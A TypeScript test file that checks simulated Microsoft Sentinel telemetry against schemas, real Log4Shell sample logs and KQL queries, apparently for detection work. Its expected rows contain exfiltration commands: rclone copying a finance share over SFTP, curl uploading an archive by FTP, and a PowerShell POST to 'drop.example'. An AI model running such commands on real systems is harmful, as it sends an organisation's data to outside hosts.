import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { HOST_COLUMNS } from '../../src/schemas/sentinel/host-columns.ts'
import { SENTINEL } from '../../src/simulation/sensors/sentinel/index.ts'
import { describeWithSharedData, SHARED } from '../shared-data.ts'
import { unzippedLines } from '../support/unzip.ts'
import { sampleActivities } from './sample-scenario.ts'
import { observed, rowsOf, sessionOver } from './written-records.ts'

const windows = observed(SENTINEL, sampleActivities('windows'))
const linux = observed(SENTINEL, sampleActivities('linux'))
const all = [...windows, ...linux]
const tables: Readonly<Record<string, Readonly<Record<string, string>>>> = HOST_COLUMNS

const fieldsOf = (stream: string, event: string, index = 0) => {
  const found = windows.filter((record) => record.stream === stream && record.event === event).at(index)
  if (found === undefined) throw new Error(`no ${event} in ${stream}`)
  return found.fields
}

const JSON_FORMS: Readonly<Record<string, (value: unknown) => boolean>> = {
  datetime: (value) => typeof value === 'string' && /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d{3})?Z$/.test(value),
  long: Number.isSafeInteger,
  int: (value) => Number.isSafeInteger(value) && Math.abs(Number(value)) < 2 ** 31,
  string: (value) => typeof value === 'string',
}

function wrong(
  columns: Readonly<Record<string, string>>,
  fields: Readonly<Record<string, unknown>>,
): readonly string[] {
  return Object.entries(fields)
    .filter(([name, value]) => JSON_FORMS[columns[name] ?? '']?.(value) !== true)
    .map(([name, value]) => `${name}: ${JSON.stringify(value)}`)
}

describe('rows of Sentinel', () => {
  test('have columns of their table only, each in the form of its type', () => {
    expect(all.flatMap(({ stream, fields }) => wrong(tables[stream] ?? {}, fields))).toEqual([])
  })

  test('of a start name the child as the new process, the parent as the process, and composed accounts', () => {
    expect(fieldsOf('SecurityEvent', '4688', 1)).toMatchObject({
      EventID: 4688,
      Activity: '4688 - A new process has been created.',
      Account: 'CORP\\J.Doe',
      AccountType: 'User',
      Process: 'Rclone.exe',
      NewProcessName: 'C:\\Users\\Public\\Rclone.exe',
      ParentProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      NewProcessId: expect.stringMatching(/^0x[0-9a-f]+$/),
      ProcessId: fieldsOf('SecurityEvent', '4688')['NewProcessId'],
      TargetAccount: '-\\-',
      TokenElevationType: '%%1936',
      MandatoryLabel: 'S-1-16-8192',
      Computer: 'WS-LAB-01.corp.example',
      Channel: 'Security',
    })
  })

  test('of an end tell its status twice, of a connection in the XML only', () => {
    const end = fieldsOf('SecurityEvent', '4689')
    expect(end).toMatchObject({ Status: '0x1', Process: 'Rclone.exe' })
    expect(end['EventData']).toContain('<Data Name="Status">0x1</Data>')
    const connection = fieldsOf('SecurityEvent', '5156', 1)
    expect(connection['Activity']).toBe('5156 - The Windows Filtering Platform has allowed a connection.')
    expect(connection['EventData']).toContain(
      '<Data Name="Application">\\device\\harddiskvolume3\\users\\public\\rclone.exe</Data>',
    )
    expect(connection['EventData']).toContain('<Data Name="Direction">%%14593</Data>')
    expect(Object.keys(connection)).not.toContain('Account')
  })

  test('of the firewall have what was sent when the session ends, and nothing of loopback', () => {
    const sessions = windows.filter(({ stream }) => stream === 'CommonSecurityLog')
    const start = Date.UTC(2026, 2, 2, 9, 14, 6)
    expect(sessions.find(({ fields }) => fields['DestinationPort'] === 22)).toMatchObject({
      event: 'TRAFFIC',
      time: start + 60_000,
      fields: {
        SourceIP: '10.20.3.17',
        DestinationIP: '93.184.215.14',
        DestinationPort: 22,
        SentBytes: 52_428_800,
        ReceivedBytes: 20_480,
        ApplicationProtocol: 'ssh',
        DeviceAction: 'allow',
        Protocol: 'tcp',
        StartTime: new Date(start).toISOString(),
      },
    })
    const addresses = sessions.map(({ fields }) => `${fields['SourceIP']} ${fields['DestinationIP']}`)
    expect(addresses.filter((pair) => pair.includes('127.'))).toEqual([])
    expect(addresses).toContain('10.20.3.99 10.20.3.17')
  })

  test('of other logs hold the data as XML, and the message', () => {
    const started = fieldsOf('Event', '1', 1)
    expect(started).toMatchObject({
      Source: 'Microsoft-Windows-Sysmon',
      EventLog: 'Microsoft-Windows-Sysmon/Operational',
      EventLevelName: 'Information',
      UserName: 'NT AUTHORITY\\SYSTEM',
      RenderedDescription: expect.stringContaining('Process Create:\r\nRuleName: -\r\n'),
    })
    expect(started['EventData']).toMatch(/^<DataItem type="System\.XmlData" .*<\/EventData><\/DataItem>$/)
    expect(started['EventData']).toContain('<Data Name="Image">C:\\Users\\Public\\Rclone.exe</Data>')
    const script = fieldsOf('Event', '4104')
    expect(script).toMatchObject({ Source: 'Microsoft-Windows-PowerShell', UserName: 'CORP\\J.Doe' })
    expect(script['EventData']).toContain('$x = "&lt;&amp;&gt;"</Data>')
    expect(script['RenderedDescription']).toContain('Creating Scriptblock text (1 of 1):\r\nInvoke-WebRequest')
  })

  test('of Linux hosts hold the lines of auoms and of Sysmon', () => {
    const lines = linux.filter(({ stream }) => stream === 'Syslog')
    expect(lines.map(({ event, fields }) => `${fields['ProcessName']} ${event}`)).toEqual([
      'auoms AUOMS_EXECVE',
      'sysmon 1',
      'sysmon 11',
      'sysmon 11',
      'sysmon 3',
      'sysmon 3',
      'sysmon 5',
    ])
    expect(lines[0]?.fields['SyslogMessage']).toMatch(
      /^type=AUOMS_EXECVE audit\(\d{10}\.\d{3}:\d+\): SchemaVersion="1" .* exe="\/usr\/bin\/curl" .* cmdline="curl --upload-file \/tmp\/Out\.tgz ftp:\/\/93\.184\.215\.14\/" redactors= containerid=$/,
    )
  })

  test('are read whole, and queries find what they say', async () => {
    const session = await sessionOver(SENTINEL, 'rows', all)
    const { counts, diagnostics } = session.ingested
    expect([counts.read, counts.rejected, counts.unmapped, diagnostics]).toEqual([all.length, 0, 0, []])
    const started = await rowsOf(
      session,
      'kql',
      'SecurityEvent | where EventID == 4688 and Process =~ "rclone.exe" | project Account, CommandLine, NewProcessName',
    )
    expect(started).toEqual([
      {
        Account: 'CORP\\J.Doe',
        CommandLine: 'rclone.exe copy C:\\Shares\\Finance :sftp:inbox --sftp-host 93.184.215.14',
        NewProcessName: 'C:\\Users\\Public\\Rclone.exe',
      },
    ])
    const scripts = await rowsOf(
      session,
      'kql',
      `Event | where EventID == 4104 | extend Data = parse_xml(EventData).DataItem.EventData.Data
      | mv-expand Data | where tostring(Data["@Name"]) == "ScriptBlockText" | project Text = tostring(Data["#text"])`,
    )
    expect(scripts).toEqual([{ Text: 'Invoke-WebRequest -Uri http://drop.example/in -Method POST\n$x = "<&>"' }])
    const lines = await rowsOf(
      session,
      'kql',
      `Syslog | where ProcessName == "sysmon" and SyslogMessage has "<EventID>1</EventID>"
      | project HostName, CommandLine = extract('<Data Name="CommandLine">([^<]*)</Data>', 1, SyslogMessage)`,
    )
    expect(lines).toEqual([{ HostName: 'lab-02', CommandLine: 'curl --upload-file /tmp/Out.tgz ftp://93.184.215.14/' }])
    const sent = await rowsOf(
      session,
      'kql',
      'CommonSecurityLog | where DeviceAction == "allow" and DestinationPort == 22 | summarize Sent = sum(SentBytes) by SourceIP',
    )
    expect(sent).toEqual([{ SourceIP: '10.20.3.17', Sent: 52_428_800 }])
  })
})

describeWithSharedData('rows of Sentinel beside the documented schema', () => {
  test('have its columns and types', () => {
    const schema: Record<string, Record<string, string>> = JSON.parse(
      readFileSync(`${SHARED}/schemas/sentinel.json`, 'utf8'),
    )
    expect(all.flatMap(({ stream, fields }) => wrong(schema[stream] ?? {}, fields))).toEqual([])
  })

  const LOG4SHELL = `${SHARED}/telemetry/security-datasets/compound/Log4Shell`
  /** What the workspace adds to every row, and what the data set's makers made of the message. */
  const ADDED = new Set(['MG', 'TimeCollected', 'EventOriginId', '_ResourceId', 'EventType', 'EventData'])
  const shapeOf = (row: Readonly<Record<string, unknown>>): readonly string[] =>
    Object.entries(row)
      .filter(([name]) => !ADDED.has(name))
      .map(([name, value]) => `${name}: ${typeof value}`)
      .toSorted()
  const realRows = (archive: string): readonly Readonly<Record<string, unknown>>[] =>
    unzippedLines(`${LOG4SHELL}/${archive}.zip`).map((line) => JSON.parse(line))
  const names = (text: unknown, pattern: RegExp): readonly string[] =>
    [...String(text).matchAll(pattern)].map(([, name = '']) => name)

  test.each([4688, 4689, 5156])('have the columns of a real %i', (id) => {
    const real = realRows('securityauditing_log4shell_cve2021_44228_java_serialized_object').find(
      (row) => row['EventID'] === id,
    )
    const own = fieldsOf('SecurityEvent', String(id))
    expect(shapeOf(own)).toEqual(shapeOf(real ?? {}))
    const data = /<Data Name="(\w+)">/g
    if (id !== 4688) expect(names(own['EventData'], data)).toEqual(names(real?.['EventData'], data))
  })

  test('have the columns of a real line of Sysmon and of auoms, and the fields of the latter', () => {
    const lines = linux.filter(({ stream }) => stream === 'Syslog')
    // The documented table has no TenantId.
    const documented = (row: Readonly<Record<string, unknown>> | undefined): readonly string[] =>
      shapeOf(row ?? {}).filter((column) => column !== 'TenantId: string')
    const [sysmon] = realRows('syslog_sysmon_log4shell_cve2021_44228_jndi_reference')
    expect(shapeOf(lines[1]?.fields ?? {})).toEqual(documented(sysmon))
    const auoms = realRows('syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference').find((row) =>
      String(row['SyslogMessage']).includes('success=yes'),
    )
    expect(shapeOf(lines[0]?.fields ?? {})).toEqual(documented(auoms))
    const field = / (\w+)=/g
    const withoutCommand = (text: unknown): string =>
      String(text).replace(/cmdline=".*" redactors/, 'cmdline= redactors')
    expect(names(withoutCommand(lines[0]?.fields['SyslogMessage']), field)).toEqual(
      names(withoutCommand(auoms?.['SyslogMessage']), field),
    )
  })
})
